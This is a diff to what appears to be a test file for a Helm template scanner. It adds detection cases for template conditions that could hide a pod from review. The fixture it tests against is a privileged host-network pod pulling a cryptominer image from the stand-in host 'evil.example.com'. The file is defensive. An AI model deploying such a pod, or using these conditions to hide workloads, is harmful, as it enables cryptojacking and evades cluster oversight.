@@ -25,6 +25,7 @@ spec:
   hostNetwork: true
   containers: [{name: app, image: "evil.example.com/miner:latest", securityContext: {privileged: true}}]
 """
+GIT_VERSION = '(semverCompare ">=1" .Capabilities.KubeVersion.GitVersion)'
 # Condition under which the pod is there → codes that say so: either what it is, or that nobody knows whether it is.
 HIDDEN: dict[str, set[str]] = {
     'semverCompare ">=4.3.0" .Capabilities.HelmVersion.Version': {"KUB001", "INP007"},
@@ -38,7 +39,11 @@ HIDDEN: dict[str, set[str]] = {
     'hasPrefix "a" (uuidv4)': {"ARG029"},
     'lookup "v1" "Namespace" "" "kube-system"': {"ARG030"},
     'not (lookup "v1" "Namespace" "" "")': {"ARG030"},
+    'contains "example.com/v1" (toJson .Capabilities.APIVersions)': {"INP008"},
+    'has "example.com/v1" .Capabilities.APIVersions': {"INP008"},
+    f'and {GIT_VERSION} (semverCompare ">=5" .Capabilities.HelmVersion.Version)': {"INP007"},
     # Where the text does not show it, and a release that is one of many.
+    f'and {GIT_VERSION} (int (trimPrefix "v1.35." .Capabilities.KubeVersion.Version))': {"INP007"},
     'gt (date "2006" "x" | int) 2030': {"ARG029"},
     'eq .Capabilities.KubeVersion.Version (printf "v1.35.%d" 4)': {"INP007"},
     ".Release.IsUpgrade": {"ARG030"},
